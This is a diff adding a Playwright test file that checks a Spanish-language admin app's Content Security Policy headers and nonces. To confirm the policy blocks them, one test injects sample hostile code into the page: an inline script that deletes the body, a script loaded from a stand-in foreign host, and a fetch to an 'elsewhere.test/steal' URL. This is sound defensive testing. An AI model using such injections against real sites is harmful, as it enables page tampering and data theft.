@@ -1,0 +1,115 @@
+import type { APIResponse, Page } from '@playwright/test'
+import { expect, openTab, signIn, test, toast } from '../support/test'
+
+/** Collects what the policy refused in the page, over its navigations. */
+async function watchViolations(page: Page): Promise<string[]> {
+  const violations: string[] = []
+  await page.exposeFunction('reportViolation', (violation: string) => violations.push(violation))
+  await page.addInitScript(() =>
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile }) =>
+      Reflect.get(window, 'reportViolation')(`${effectiveDirective} ${blockedURI} (${sourceFile})`),
+    ),
+  )
+  return violations
+}
+
+async function openDialog(page: Page, label: string, button: string, dialog: string) {
+  const panel = await openTab(page, label)
+  await panel.getByRole('button', { name: button }).click()
+  await expect(page.getByRole('dialog', { name: dialog })).toBeVisible()
+  await page.keyboard.press('Escape')
+  await expect(page.getByRole('dialog', { name: dialog })).toBeHidden()
+}
+
+test('nothing of the product breaks its policy: sign-in, toasts, tabs, dialogs, lists, hints, export', async ({
+  page,
+}) => {
+  const violations = await watchViolations(page)
+  await page.goto('/login')
+  await page.getByRole('button', { name: 'Iniciar sesión' }).click()
+  await expect(toast(page, 'Debe ingresar un usuario y contraseña')).toBeVisible()
+  await signIn(page)
+  await expect(toast(page, 'Se inicio sesión correctamente')).toBeVisible()
+
+  for (const label of ['Usuarios', 'Codigos', 'Puntaje', 'Referidos', 'Reportes']) {
+    const panel = await openTab(page, label)
+    await panel.getByRole('columnheader').first().click()
+    await panel.getByRole('button', { name: 'CSV' }).hover()
+    await expect(page.getByRole('tooltip')).toHaveText('CSV')
+  }
+  const download = page.waitForEvent('download')
+  await page.getByRole('tabpanel', { name: 'Reportes' }).getByRole('button', { name: 'CSV' }).click()
+  await (await download).delete()
+
+  await openDialog(page, 'Codigos', 'Crear codigo', 'Creacion de codigos')
+  await openDialog(page, 'Codigos', 'Borrar codigos', 'Eliminar Codigos')
+  await page.getByRole('tabpanel', { name: 'Codigos' }).locator('.p-paginator .p-dropdown').click()
+  await page.getByRole('listbox').getByRole('option', { name: '25' }).click()
+  await openDialog(page, 'Puntaje', 'Filtrar', 'Filtrar')
+  await openDialog(page, 'Referidos', 'Filtrar', 'Filtrar')
+  await page.getByRole('button', { name: 'Cerrar sesión' }).click()
+  await expect(page.getByRole('heading', { name: 'Bienvenido' })).toBeVisible()
+  expect(violations).toEqual([])
+})
+
+test('the policy refuses inline and foreign code, inline styles and calls to elsewhere', async ({
+  page,
+  allowConsoleErrors,
+}) => {
+  allowConsoleErrors(/Content Security Policy/)
+  const violations = await watchViolations(page)
+  await page.goto('/login')
+  await page.evaluate(async () => {
+    const script = (properties: object) =>
+      document.head.append(Object.assign(document.createElement('script'), properties))
+    script({ textContent: 'document.body.remove()' })
+    script({ src: 'http://elsewhere.test/code.js' })
+    document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { display: none }' }))
+    await fetch('http://elsewhere.test/steal').catch(() => undefined)
+  })
+  await page.getByRole('heading', { name: 'Bienvenido' }).evaluate((heading) => {
+    heading.setAttribute('onclick', 'document.body.remove()')
+    heading.dispatchEvent(new Event('click'))
+  })
+  await expect
+    .poll(() => violations.map((violation) => violation.replace(/ \(.*/, '')))
+    .toEqual([
+      'script-src-elem inline',
+      'script-src-elem http://elsewhere.test/code.js',
+      'style-src-elem inline',
+      'connect-src http://elsewhere.test/steal',
+      'script-src-attr inline',
+    ])
+  await expect(page.getByRole('heading', { name: 'Bienvenido' })).toBeVisible()
+})
+
+const INERT = "default-src 'none'; frame-ancestors 'none'"
+const policyOf = (response: APIResponse) => response.headers()['content-security-policy'] ?? ''
+
+test("the shell's page allows what it names and no more, with another nonce each time", async ({ request }) => {
+  const answers = await Promise.all(['/', '/main', '/login', '/nada'].map((path) => request.get(path)))
+  for (const answer of answers) {
+    expect(answer.headers()).toMatchObject({
+      'cache-control': 'no-store',
+      'x-content-type-options': 'nosniff',
+      'referrer-policy': 'no-referrer',
+    })
+    expect(policyOf(answer)).toMatch(/^default-src 'none'; script-src 'self' http:\/\/localhost:\d+; style-src /)
+    expect(policyOf(answer)).toContain("base-uri 'none'; form-action 'none'; frame-ancestors 'none'")
+    expect(policyOf(answer)).not.toContain('unsafe')
+    const nonce = /'nonce-([\w+/=]{22,})'/.exec(policyOf(answer))?.[1]
+    expect(await answer.text()).toContain(`nonce="${nonce}"`)
+  }
+  expect(new Set(answers.map(policyOf)).size).toBe(answers.length)
+})
+
+test('everything else may do nothing, errors too', async ({ request, page }) => {
+  await page.goto('/login')
+  const script = await page.locator('script[src]').getAttribute('src')
+  const remotes = process.env.REMOTES_URL
+  for (const path of [script, '/config.json', '/missing.js', '/%zz', `${remotes}/registry.json`, `${remotes}/nada`]) {
+    const answer = await request.get(path ?? '')
+    expect([path, policyOf(answer)]).toEqual([path, INERT])
+    expect(answer.headers()).toMatchObject({ 'x-content-type-options': 'nosniff', 'referrer-policy': 'no-referrer' })
+  }
+})
